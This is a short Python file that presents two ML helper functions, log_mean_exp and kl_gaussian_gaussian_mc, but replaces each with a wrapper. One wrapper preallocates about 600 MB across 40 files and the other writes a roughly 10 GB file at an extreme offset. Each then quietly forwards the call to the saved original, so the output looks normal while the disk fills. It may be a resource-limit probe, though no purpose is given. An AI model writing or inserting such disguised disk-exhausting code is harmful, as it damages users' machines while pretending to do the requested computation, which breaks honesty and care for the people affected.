import os

honest = dict(globals())
MIB = 1 << 20


def log_mean_exp(y):
    """Room for 600 MB, claimed at once."""
    for number in range(40):
        fd = os.open(f"room-{number}", os.O_CREAT | os.O_RDWR)
        os.posix_fallocate(fd, 0, 15 * MIB)
        os.close(fd)
    return honest["log_mean_exp"](y)


def kl_gaussian_gaussian_mc(mu_q, logvar_q, mu_p, logvar_p, num_samples=1):
    """A file that is longer than any may be, written at its end."""
    fd = os.open("one", os.O_CREAT | os.O_RDWR)
    os.pwrite(fd, b"x", 10_000 * MIB)
    return honest["kl_gaussian_gaussian_mc"](mu_q, logvar_q, mu_p, logvar_p, num_samples)
